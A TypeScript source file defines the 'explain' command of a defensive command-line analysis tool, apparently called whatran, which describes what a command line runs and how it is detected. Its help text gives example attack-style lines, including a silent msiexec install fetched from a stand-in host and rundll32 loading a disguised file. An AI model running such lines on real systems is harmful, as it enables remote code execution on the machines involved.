import { resolve } from "node:path";
import { loadCatalog } from "../../catalog/load.ts";
import { WhatranError } from "../../errors.ts";
import type { Request } from "../../invocations/types.ts";
import type { Explanation } from "../../model/invocation.ts";
import { jsonLine, jsonPretty } from "../../outputs/escape.ts";
import { redact, redactExplanation } from "../../outputs/redact.ts";
import { explain } from "../../pipeline/explain.ts";
import { sentenceOf } from "../../signals/sentence.ts";
import { settings } from "../config/resolve.ts";
import { EXIT, exitAfterAbort } from "../exit.ts";
import { collect, given } from "../flags.ts";
import { columnsOf, type Io, wantsColour } from "../io.ts";
import type { Define } from "./define.ts";

const HELP = `
Examples:
  whatran explain 'rundll32.exe C:\\ProgramData\\u.dat,#1'
  whatran explain --as logged --platform linux 'find / -exec sh -c id ;'
  whatran explain --format json 'msiexec /q /i http://example.net/p.msi' | jq .verdict
  jq -c '{commandLine: .CommandLine, image: .Image}' events.json | whatran explain --stdin

A line of --stdin is a command line, or an object with commandLine or args[] and, if known, image,
originalFileName, platform, env, cwd, parent and as. Every line has one answer, in order. Nothing is
ever executed.`;

interface Flags extends Record<string, unknown> {
  readonly stdin?: boolean;
}

/** What flags say of every line. */
function defaults(flags: Flags, values: { platform?: unknown; as?: unknown }): Partial<Request> {
  const texts = ["image", "originalFileName", "cwd", "parent"].filter((name) => typeof flags[name] === "string");
  return {
    ...Object.fromEntries(texts.map((name) => [name, flags[name]])),
    ...(values.platform !== undefined && { platform: values.platform as Request["platform"] & string }),
    ...(values.as !== undefined && { as: values.as as Request["as"] & string }),
  };
}

async function explainCommand(words: readonly string[], flags: Flags, io: Io): Promise<number> {
  const values = await settings("explain", flags, io);
  const catalog = await loadCatalog(values.catalog ?? []);
  const redacted = values.redact ? redactExplanation : <T>(value: T) => value;
  const { Cures, cureText } = await import("../../pipeline/cures.ts");
  const cures = new Cures(catalog, values.baseline === undefined ? undefined : resolve(io.cwd, values.baseline));
  // Of what is masked nothing more is told.
  const finish = (explanation: Explanation, parent: string | undefined) =>
    cures.explained(redacted(explanation), parent);
  if (flags.stdin) {
    if (words.length > 0)
      throw new WhatranError("usage", "--stdin reads command lines from stdin; give none as arguments");
    const { explainLines } = await import("../explain/batch.ts");
    await explainLines({ catalog, defaults: defaults(flags, values), finish }, io);
    return io.signal.aborted ? exitAfterAbort(io.signal) : EXIT.done;
  }
  if (words.join("").trim() === "")
    throw new WhatranError("usage", "explain needs a command line, in quotes; see whatran explain --help");
  // Several words are what a shell already cut: an argv, not a line.
  const request = words.length === 1 ? { commandLine: words[0] as string } : { args: words };
  const explained = explain({ ...defaults(flags, values), ...request }, catalog);
  const explanation = finish(explained.explanation, typeof flags.parent === "string" ? flags.parent : undefined);
  const format = values.format ?? (io.stdout.isTTY ? "text" : "json");
  if (format === "text") {
    const { teach } = await import("../explain/teach.ts");
    const columns = Math.min(columnsOf(io.stdout), 110);
    const { judgement } = explained;
    const mask = values.redact ? redact : (text: string) => text;
    const judged = {
      headline:
        judgement && mask(sentenceOf(judgement.invocation, judgement.behaviour, explained.resolution.invocations)),
      reasons: (judgement?.scored.reasons ?? []).map(({ points, text }) => ({ points, text: mask(text) })),
    };
    const colour = wantsColour(io, io.stdout, values.color);
    io.stdout.write(teach(explanation, { ...judged, cure: cureText }, catalog, columns, colour));
  } else {
    io.stdout.write(`${format === "ndjson" ? jsonLine(explanation) : jsonPretty(explanation)}\n`);
  }
  return EXIT.done;
}

export const define: Define = (command, io, done) => {
  command
    .description("Say what a command line really runs, why that matters, how it is seen and how it is stopped.")
    .argument("[commandLine...]", "the command line, in quotes; several words are taken as an argument list")
    .optionsGroup("Input:")
    .option("--stdin", "answer each line of stdin with one line of NDJSON")
    .option("--platform <name>", "windows, linux or macos, where the line does not tell")
    .option("--as <reading>", "typed (a shell will still read it) or logged (a shell has read it)")
    .option("--image <path>", "file of the program that runs")
    .option("--original-file-name <name>", "original file name from its version resource")
    .option("--cwd <path>", "working directory")
    .option("--parent <path>", "file of the parent process")
    .option("--baseline <file>", "say what each cure would have cost by what is normal here (see whatran learn)")
    .option("--catalog <dir>", "add or override binaries from a folder; repeatable", collect)
    .optionsGroup("Output:")
    .option("-t, --format <name>", "text, json or ndjson (default: text on a terminal, json when piped)")
    .option("--redact", "mask passwords, tokens and keys")
    .option("-K, --no-color", "do not colour")
    .addHelpText("after", HELP)
    .action(async (words: string[], flags: Flags) => done(await explainCommand(words, given(flags), io)));
};
